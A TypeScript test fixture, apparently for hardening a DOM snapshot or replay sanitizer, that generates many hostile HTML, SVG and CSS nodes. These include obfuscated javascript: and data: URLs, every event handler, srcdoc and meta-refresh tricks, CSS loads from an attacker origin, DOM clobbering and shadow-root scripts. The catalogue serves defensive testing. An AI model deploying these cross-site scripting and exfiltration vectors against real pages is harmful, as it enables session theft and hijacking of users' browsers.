/** Pages that try to run, to fetch, to navigate and to break things, by what they try it with. Each gives nodes for head and body. */

import { harm } from "./attacker.ts";
import type { PageWriter } from "./nodes.ts";
import { type Attributes, type WrittenNode } from "./nodes.ts";

/** Where a vector points. */
export interface Target {
  origin: string;
  host: string;
}

type Vector = (write: PageWriter, target: Target) => WrittenNode[];

/** Every handler that HTML, SVG, media, fullscreen, touch and pointer specifications name, and some that browsers add. */
export const HANDLERS = (
  "abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch " +
  "beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough change click close command " +
  "contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend dragenter dragleave " +
  "dragover dragstart drop durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange fullscreenerror " +
  "gamepadconnected gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata " +
  "loadstart lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel " +
  "offline online pagehide pageshow pageswap pagereveal paste pause play playing pointercancel pointerdown pointerenter pointerleave " +
  "pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange rejectionhandled repeat reset resize scroll " +
  "scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled " +
  "start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun " +
  "transitionstart unhandledrejection unload visibilitychange volumechange waiting webkitanimationend webkitanimationstart " +
  "webkitfullscreenchange webkittransitionend wheel"
).split(" ");

/** All handlers at once, in spellings that HTML takes for the same. */
export function handlers(target: Target): Attributes {
  return Object.fromEntries(
    HANDLERS.map((name, i) => [i % 3 === 0 ? `ON${name.toUpperCase()}` : `on${name}`, harm(target, `on${name}`)]),
  );
}

const scripts: Vector = (write, target) => [
  write.element("script", {}, [write.text(harm(target, "inline"))]),
  write.element("SCRIPT", {}, [write.text(harm(target, "upper"))]),
  write.element("script", { src: `${target.origin}/remote.js`, async: "" }),
  write.element("script", { type: "module", src: `${target.origin}/module.js` }),
  write.element("script", { type: "module" }, [write.text(`import "${target.origin}/imported.js"`)]),
  write.element("script", { type: "importmap" }, [write.text(`{"imports":{"a":"${target.origin}/map.js"}}`)]),
  write.element("script", { type: "speculationrules" }, [
    write.text(JSON.stringify({ prefetch: [{ source: "list", urls: [`${target.origin}/speculated`] }] })),
  ]),
  write.element("noscript", {}, [write.element("img", { src: `${target.origin}/noscript.gif` })]),
  write.element("script", { src: "/demo/demo.js" }),
  write.element("script", { src: `data:text/javascript,${harm(target, "dataScript")}` }),
  write.comment(`[if IE]><script>${harm(target, "comment")}</script><![endif]`),
  write.element("xml", {}, [write.text(`<?xml-stylesheet href="${target.origin}/pi.css"?>`)]),
];

const onHandlers: Vector = (write, target) => {
  const all = handlers(target);
  return [
    write.element("img", { src: "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", ...all }),
    write.element("img", { src: "nowhere:", ...all }),
    write.element("details", { open: "", ...all }, [write.element("summary", all)]),
    write.element("input", { autofocus: "", value: "x", ...all }),
    write.element("marquee", { loop: "1", width: "1", ...all }, [write.text("m")]),
    write.element("video", { src: "data:video/mp4,x", autoplay: "", ...all }, [write.element("source", all)]),
    write.element("div", { style: "animation: spin 10ms; transition: all 1ms", contenteditable: "", tabindex: "0", ...all }),
    write.element("dialog", { open: "", rr_open_mode: "modal", ...all }),
    write.element("iframe", all),
    write.element("style", all, [write.text("@keyframes spin { to { rotate: 1turn } }", true)]),
    write.element("link", { rel: "stylesheet", href: "data:text/css,p{}", ...all }),
    write.svg("svg", all, [write.svg("animate", { attributeName: "x", dur: "1ms", ...all }), write.svg("image", all)]),
    write.element("x-own", all),
    write.element("body", all),
    write.element("frameset", all),
  ];
};

/** Spellings of an address that runs. */
function runningAddresses(target: Target): string[] {
  const code = harm(target, "address");
  return [
    `javascript:${code}`,
    `JaVaScRiPt:${code}`,
    ` \u0001javascript:${code}`,
    `java\tscript:${code}`,
    `java\nscript\r:${code}`,
    `javascript&colon;${code}`,
    `\u00a0javascript:${code}`,
    `vbscript:${code}`,
    `data:text/html,<script>${code}</script>`,
    `data:text/html;base64,${Buffer.from(`<script>${code}</script>`).toString("base64")}`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"/>`,
    `DATA:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${code}</script>`,
    `view-source:${target.origin}/source`,
    `filesystem:${target.origin}/temporary/x.html`,
  ];
}

const addresses: Vector = (write, target) =>
  runningAddresses(target).flatMap((address) => [
    write.element("a", { href: address, target: "_top", ping: `${target.origin}/ping`, download: "x" }, [write.text("go")]),
    write.element("map", { name: "m" }, [write.element("area", { href: address, shape: "default", target: "_parent" })]),
    write.element("iframe", { src: address }),
    write.element("iframe", { rr_src: address }),
    write.element("frame", { src: address }),
    write.element("embed", { src: address, type: "text/html" }),
    write.element("object", { data: address, type: "text/html" }, [write.element("param", { name: "movie", value: address })]),
    write.element("form", { action: address, target: "_top" }, [
      write.element("input", { type: "submit", formaction: address, formtarget: "_blank" }),
      write.element("button", { formaction: address }),
    ]),
    write.element("img", { src: address, lowsrc: address, dynsrc: address, longdesc: address }),
    write.element("link", { rel: "stylesheet", href: address }),
    write.svg("svg", {}, [
      write.svg("a", { href: address, "xlink:href": address }, [write.svg("text", {})]),
      write.svg("use", { href: address, "xlink:href": address }),
      write.svg("image", { href: address }),
      write.svg("set", { attributeName: "href", to: address }),
    ]),
    write.element("math", { href: address }, [write.element("maction", { actiontype: "statusline", "xlink:href": address })]),
    write.element("base", { href: address }),
    write.element("isindex", { action: address, type: "image" }),
    write.element("table", { background: address }),
  ]);

const frames: Vector = (write, target) => {
  const inner = `<script>${harm(target, "srcdoc")}</script><img src="${target.origin}/srcdoc.gif" onerror="${harm(target, "srcdocError")}">`;
  const nested = `<iframe srcdoc="&lt;img src=${target.origin}/nested.gif&gt;"></iframe><iframe src="${target.origin}/nested"></iframe>`;
  return [
    write.element("iframe", { src: `${target.origin}/frame`, width: "200", height: "100", allow: "camera *; autoplay *" }),
    write.element("iframe", { srcdoc: inner, sandbox: "allow-scripts allow-same-origin allow-top-navigation" }),
    write.element("iframe", { srcdoc: nested }),
    write.element("iframe", { src: "/", name: "contentWindow" }),
    write.element("iframe", { src: "/v1/sessions" }),
    write.element("iframe", { loading: "eager", src: `//${target.host}/scheme` }),
    write.element("object", { data: `${target.origin}/object` }, [
      write.element("img", { src: `${target.origin}/fallback.gif` }),
    ]),
    write.element("object", { data: `${target.origin}/object.svg`, type: "image/svg+xml" }),
    write.element("embed", { src: `${target.origin}/embed` }),
    write.element("embed", { src: `${target.origin}/embed.svg`, type: "image/svg+xml" }),
    write.element("applet", { code: "x.class", codebase: target.origin, archive: `${target.origin}/a.jar` }),
    write.element("portal", { src: `${target.origin}/portal` }),
    write.element("fencedframe", { config: `${target.origin}/fenced`, src: `${target.origin}/fenced` }),
    write.element("frameset", {}, [write.element("frame", { src: `${target.origin}/frameset` })]),
    write.element("bgsound", { src: `${target.origin}/sound` }),
    write.element("webview", { src: `${target.origin}/webview` }),
  ];
};

const metas: Vector = (write, target) => [
  write.element("meta", { "http-equiv": "refresh", content: `0;url=${target.origin}/refresh` }),
  write.element("meta", { "HTTP-EQUIV": "Refresh", content: `0;javascript:${harm(target, "refresh")}` }),
  write.element("meta", {
    "http-equiv": "Content-Security-Policy",
    content: "default-src * 'unsafe-inline' 'unsafe-eval' data:",
  }),
  write.element("meta", { "http-equiv": "Content-Security-Policy", content: `report-uri ${target.origin}/report` }),
  write.element("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" }),
  write.element("meta", { "http-equiv": "set-cookie", content: "stolen=1; path=/" }),
  write.element("meta", { "http-equiv": "origin-trial", content: "A".repeat(80) }),
  write.element("meta", { name: "referrer", content: "unsafe-url" }),
  write.element("meta", { "http-equiv": "Link", content: `<${target.origin}/meta.css>; rel=stylesheet` }),
  write.element("base", { href: `${target.origin}/base/`, target: "_top" }),
  write.element("img", { src: "relative.gif", referrerpolicy: "unsafe-url" }),
  write.element("html", { manifest: `${target.origin}/app.manifest` }),
  ...(
    "preload prefetch dns-prefetch preconnect modulepreload prerender icon apple-touch-icon manifest import next search pingback " +
    "alternate author help license canonical amphtml shortcut compression-dictionary"
  )
    .split(" ")
    .flatMap((rel) => [
      write.element("link", { rel, href: `${target.origin}/link-${rel}`, as: "image", type: "text/css", crossorigin: "" }),
      write.element("link", {
        rel: ` ${rel.toUpperCase()} `,
        href: `http://${rel}.unresolved.test/`,
        imagesrcset: `${target.origin}/set 2x`,
      }),
    ]),
  write.element("a", { href: "http://link.unresolved.test/", target: "_blank", rel: "opener" }, [write.text("a link")]),
];

const forms: Vector = (write, target) => [
  write.element("form", { action: `${target.origin}/form`, method: "post", target: "_top", id: "f" }, [
    write.element("input", { name: "a", value: "b", autofocus: "" }),
    write.element("input", { type: "image", src: `${target.origin}/button.gif`, formaction: `${target.origin}/image-button` }),
    write.element("button", { type: "submit", formaction: `${target.origin}/button`, accesskey: "k" }, [write.text("send")]),
  ]),
  write.element("input", { form: "f", type: "submit", formaction: `${target.origin}/outside` }),
  write.element("input", { type: "file", value: "/etc/passwd" }),
  write.element("button", { popovertarget: "p", command: "show-modal", commandfor: "d", interesttarget: "p" }),
  write.element("keygen", { challenge: "x" }),
  write.element("div", { popover: "auto", id: "p" }),
];

const svg: Vector = (write, target) => {
  const { origin } = target;
  return [
    write.svg("svg", { onload: harm(target, "svg"), "xml:base": origin }, [
      write.svg("script", {}, [write.text(harm(target, "svgScript"))]),
      write.svg("script", { href: `${origin}/svg.js`, "xlink:href": `${origin}/svgx.js` }),
      write.svg("SCRIPT", {}, [write.text(harm(target, "svgUpper"))]),
      write.svg("use", { href: `${origin}/use.svg#a`, "xlink:href": `${origin}/usex.svg#a` }),
      write.svg("image", { href: `${origin}/image.gif`, "xlink:href": `${origin}/imagex.gif`, width: "9", height: "9" }),
      write.svg("filter", { id: "fi" }, [write.svg("feImage", { href: `${origin}/fe.gif`, "xlink:href": `${origin}/fex.gif` })]),
      write.svg("rect", { width: "9", height: "9", filter: `url(${origin}/filter.svg#f)`, fill: `url(${origin}/fill.svg#f)` }),
      write.svg("rect", {
        mask: `url(${origin}/mask.svg#m)`,
        "clip-path": `url(${origin}/clip.svg#c)`,
        cursor: `url(${origin}/c.gif)`,
      }),
      write.svg("rect", { "marker-end": `url(${origin}/marker.svg#m)`, filter: "url(#fi)", width: "9", height: "9" }),
      write.svg("foreignObject", { width: "50", height: "50" }, [
        write.element("iframe", { src: `${origin}/foreign` }),
        write.element("script", {}, [write.text(harm(target, "foreign"))]),
        write.element("img", { src: `${origin}/foreign.gif`, onerror: harm(target, "foreignError") }),
      ]),
      write.svg("a", { id: "target" }, [
        write.svg("animate", {
          attributeName: "href",
          values: `javascript:${harm(target, "animate")}`,
          dur: "1ms",
          fill: "freeze",
        }),
        write.svg("set", { attributeName: "xlink:href", to: `javascript:${harm(target, "set")}`, begin: "0s" }),
        write.svg("set", { attributeName: "onclick", to: harm(target, "setOn") }),
      ]),
      write.svg("image", {}, [write.svg("set", { attributeName: "href", to: `${origin}/set.gif` })]),
      write.svg("animate", {
        "xlink:href": "#target",
        attributeName: "href",
        to: `${origin}/to`,
        onbegin: harm(target, "begin"),
      }),
      write.svg("handler", { type: "text/javascript", "ev:event": "load" }, [write.text(harm(target, "handler"))]),
      write.svg("font-face-uri", { href: `${origin}/font.svg` }),
      write.svg("mpath", { href: `${origin}/path.svg#p` }),
      write.svg("discard", { href: `${origin}/discard.svg` }),
      write.svg("style", {}, [write.text(`@import "${origin}/in-svg.css"; rect { fill: url(${origin}/svg-fill.svg#f) }`, true)]),
      { type: 4, id: 99_999, textContent: `<script>${harm(target, "cdata")}</script>` },
    ]),
    write.element("math", {}, [
      write.element("mtext", {}, [write.element("script", {}, [write.text(harm(target, "math"))])]),
      write.element("annotation-xml", { encoding: "text/html" }, [write.element("img", { src: `${origin}/math.gif` })]),
      write.element("mglyph", { src: `${origin}/glyph.gif` }),
      write.element("mrow", { href: `javascript:${harm(target, "mathHref")}`, "xlink:href": `${origin}/row` }),
    ]),
  ];
};

/** A style sheet that tries every way of naming an address. */
export function sheet({ origin, host }: Target, at: string): string {
  const url = (name: string) => `url("${origin}/${at}-${name}.gif")`;
  return `
    @import "${origin}/${at}-import.css";
    @import url(${origin}/${at}-import-url.css) layer(x) supports(display: grid) screen;
    @import '//${host}/${at}-scheme.css';
    @font-face { font-family: Taken; src: url(${origin}/${at}.woff2) format("woff2"), url(${origin}/${at}.ttf); }
    @namespace url(${origin}/${at}-namespace);
    @property --p { syntax: "<image>"; inherits: true; initial-value: ${url("property")}; }
    @counter-style taken { system: cyclic; symbols: ${url("symbol")}; }
    :root { --late: ${url("custom")}; --also: image-set(${url("set-custom")} 1x); }
    body { background: ${url("background")}; font-family: Taken; cursor: ${url("cursor")}, auto; }
    body::before { content: ${url("content")} "x"; background-image: var(--late), var(--also); }
    p { list-style: ${url("list")}; display: list-item; border-image: ${url("border")} 30 round; }
    p::marker { content: ${url("marker")}; }
    p::first-letter { background: ${url("letter")}; }
    .sentinel { mask: ${url("mask")}; -webkit-mask-image: ${url("webkit-mask")}; -webkit-mask-box-image: ${url("box")}; filter: url(${origin}/${at}.svg#f); }
    .sentinel { shape-outside: ${url("shape")}; float: left; offset-path: url(${origin}/${at}-path.svg#p); clip-path: url(${origin}/${at}-clip.svg#c); }
    .sentinel { background-image: -webkit-image-set(${url("webkit-set")} 1x), image-set("${origin}/${at}-set.gif" 1x), cross-fade(${url("fade")}, red, 50%); }
    .sentinel { -webkit-box-reflect: below 0 ${url("reflect")}; behavior: url(${origin}/${at}.htc); -moz-binding: url(${origin}/${at}.xml#x); width: expression(alert(1)); }
    .sentinel:hover, .sentinel:not(:hover) { background: u\\72l(${origin}/${at}-escaped.gif); }
    @media all { .sentinel { border-image-source: ${url("media")}; } }
    @supports (display: block) { .sentinel::after { content: ${url("supports")}; } }
    @container (width > 0px) { p { background: ${url("container")}; } }
    ::-webkit-scrollbar { background: ${url("scrollbar")}; } ::selection { background: ${url("selection")}; }
  `;
}

const styles: Vector = (write, target) => [
  write.element("link", { rel: "stylesheet", href: `${target.origin}/sheet.css` }),
  write.element("link", { rel: "alternate stylesheet", href: `${target.origin}/alternate.css`, title: "x" }),
  write.element("link", { rel: "stylesheet", _cssText: sheet(target, "inlined") }),
  write.element("style", { _cssText: sheet(target, "text") }),
  write.element("style", {}, [write.text(sheet(target, "child"), true)]),
  write.element("style", { media: "screen" }, [write.text("</style><script>parent.x=1</script><style>", true)]),
  write.element("div", {
    style: `background: url(${target.origin}/inline.gif); list-style-image: url(//${target.host}/inline-list.gif)`,
  }),
  write.element("div", { style: `--x: url(${target.origin}/var.gif); background: var(--x); width: 9px; height: 9px` }),
  write.element("table", { background: `${target.origin}/table.gif` }, [
    write.element("td", { background: `${target.origin}/td.gif` }),
  ]),
  write.element("body", { background: `${target.origin}/body.gif` }),
  write.element("font", { face: "Taken" }, [write.text("in a font of theirs")]),
];

const media: Vector = (write, target) => {
  const { origin } = target;
  const state = { rr_mediaState: "played", rr_mediaCurrentTime: 3, autoplay: "", preload: "auto" };
  return [
    write.element("video", { src: `${origin}/film.mp4`, poster: `${origin}/poster.gif`, ...state }, [
      write.element("source", { src: `${origin}/source.mp4` }),
      write.element("track", { src: `${origin}/track.vtt`, default: "", kind: "captions" }),
    ]),
    write.element("audio", { src: `${origin}/sound.mp3`, controls: "", ...state }),
    write.element("picture", {}, [
      write.element("source", { srcset: `${origin}/picture.gif 1x, ${origin}/picture2.gif 2x` }),
      write.element("img", { src: `${origin}/img.gif`, srcset: `${origin}/srcset.gif 1x`, sizes: "100vw", loading: "eager" }),
    ]),
    write.element("img", {
      src: `${origin}/data.gif`,
      rr_dataURL: `${origin}/rr-data.gif`,
      attributionsrc: `${origin}/attribution`,
    }),
    write.element("img", { src: `//${target.host}/scheme.gif`, crossorigin: "use-credentials", referrerpolicy: "unsafe-url" }),
    write.element("img", { src: "/v1/sessions" }),
    write.element("img", { src: "/auth/me" }),
    write.element("image", { src: `${origin}/image-tag.gif` }),
    write.element("input", { type: "image", src: `${origin}/input.gif` }),
    write.element("canvas", { rr_dataURL: `${origin}/canvas.gif`, width: "50", height: "50" }),
    write.element("video", { src: "ws://127.0.0.1:1/socket" }),
    write.element("model", { src: `${origin}/model` }),
  ];
};

const clobbering: Vector = (write) => {
  const names = (
    "body head documentElement contentWindow contentDocument defaultView location cookie getElementById querySelector querySelectorAll " +
    "createElement implementation addEventListener fonts adoptedStyleSheets styleSheets elementFromPoint open close write parentNode " +
    "childNodes attributes tagName nodeName nodeType ownerDocument appendChild insertBefore removeChild setAttribute classList style " +
    "dispatchEvent textContent innerHTML firstChild nextSibling shadowRoot scrollTo focus blur click __proto__ constructor toString self top"
  ).split(" ");
  return names.flatMap((name) => [
    write.element("img", { name, id: name }),
    write.element("form", { name, id: `${name}-form` }, [
      write.element("input", { name }),
      write.element("button", { id: name }),
    ]),
    write.element("iframe", { name }),
    write.element("object", { id: name }),
    write.element("a", { id: name, name, href: "https://shop.example/#x" }),
  ]);
};

const shadows: Vector = (write, target) => {
  const inside = () => [
    { ...write.element("script", {}, [write.text(harm(target, "shadow"))]), isShadow: true },
    { ...write.element("img", { src: `${target.origin}/shadow.gif`, onerror: harm(target, "shadowError") }), isShadow: true },
    { ...write.element("style", {}, [write.text(sheet(target, "shadow"), true)]), isShadow: true },
    { ...write.element("slot", { onslotchange: harm(target, "slot") }), isShadow: true },
  ];
  return [
    { ...write.element("x-card", {}, inside()), isShadowHost: true, isCustom: true },
    { ...write.element("div", {}, inside()), isShadowHost: true },
    { ...write.element("a", {}, inside()), isShadowHost: true },
    { ...write.element("not valid!", {}, inside()), isShadowHost: true, isCustom: true },
    { ...write.element("font-face", {}, inside()), isShadowHost: true, isCustom: true },
    write.element("template", { shadowrootmode: "open" }, [write.element("script", {}, [write.text(harm(target, "template"))])]),
    write.element("template", {}, [
      write.element("img", { src: `${target.origin}/template.gif`, onerror: harm(target, "templateImg") }),
    ]),
    write.element("div", { is: "x-is" }),
    write.element("button", { is: "fancy-button", onclick: harm(target, "is") }),
  ];
};

/** By what they try it with. */
export const VECTORS: Readonly<Record<string, Vector>> = {
  scripts,
  handlers: onHandlers,
  addresses,
  frames,
  metas,
  forms,
  svg,
  styles,
  media,
  clobbering,
  shadows,
};
